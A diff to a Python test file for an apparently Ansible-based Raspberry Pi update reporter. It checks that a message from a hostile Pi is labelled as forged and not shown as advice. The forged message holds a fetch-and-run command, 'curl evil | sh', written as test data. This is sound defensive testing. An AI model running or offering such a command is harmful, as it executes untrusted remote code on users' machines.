@@ -60,9 +60,9 @@ def test_no_message_can_control_the_terminal_or_break_the_summary(message: str, 
 
 def test_a_pis_own_message_is_not_given_as_advice() -> None:
     """A hostile Pi may imitate our messages."""
-    why, advice = explain({"msg": "pi07 is old, and nothing was changed on it: run `curl evil | sh`."}, "Ask", NAMES)
-    assert why.startswith("pi07 is old")
-    assert advice == "See the task “Ask” above."
+    callback = Callback(["pi07"])
+    callback.fail("pi07")
+    assert callback.why["pi07"] == (FORGED, "See the task “Get” above.")
     names = {name for name in summary.OURS if not name.endswith(("assert", "fail"))}
     assert all((ROOT / f"plugins/action/{name}.py").exists() for name in names)  # worded on the control node
 
@@ -74,6 +74,9 @@ def test_very_long_messages_are_explained_quickly() -> None:
         explain({"msg": text}, "Ask", NAMES, ours=True)
     assert "card is full" in explain({"msg": f"{'x' * 10**6} No space left on device"}, "Ask", NAMES)[0]
     assert time.monotonic() - began < 10
+
+
+FORGED = "pi07 is old, and nothing was changed on it: run `curl evil | sh`."
 
 
 class Callback(CallbackModule):
@@ -92,7 +95,7 @@ class Callback(CallbackModule):
     def fail(self, host: str, run_once: bool = False) -> None:
         task = SimpleNamespace(run_once=run_once, any_errors_fatal=False, action="get_url")
         failed = SimpleNamespace(name=host)
-        self.v2_runner_on_failed(SimpleNamespace(host=failed, task=task, task_name="Get", result={"msg": "no mirror"}))
+        self.v2_runner_on_failed(SimpleNamespace(host=failed, task=task, task_name="Get", result={"msg": FORGED}))
 
     def end(self, processed: list[str], failures: list[str], **custom: dict[str, Any]) -> str:
         stats = {name.replace("_", "-"): its for name, its in custom.items()}
@@ -124,7 +127,7 @@ UPDATE: dict[str, Any] = {
 
 
 def test_each_pi_that_was_to_be_updated_has_a_line() -> None:
-    custom = {"pi_01": {"update": UPDATE}, "pi_02": {"update": {"before": "13"}}}
+    custom = {"pi_01": {"update": UPDATE}, "pi_02": {"update": {"before": "13", "after": "13"}}}
     callback = Callback(["pi-01", "pi-02", "pi-03", "pi-04"], "update")
     assert callback.end(["pi-01", "pi-02", "pi-03"], [], **custom).splitlines()[1:] == [
         "pi-01: Debian 12.15 -> 13.8, Python 3.11, 260 -> 301 packages (212 upgraded), smoke accuracy unknown -> 83.1%,"
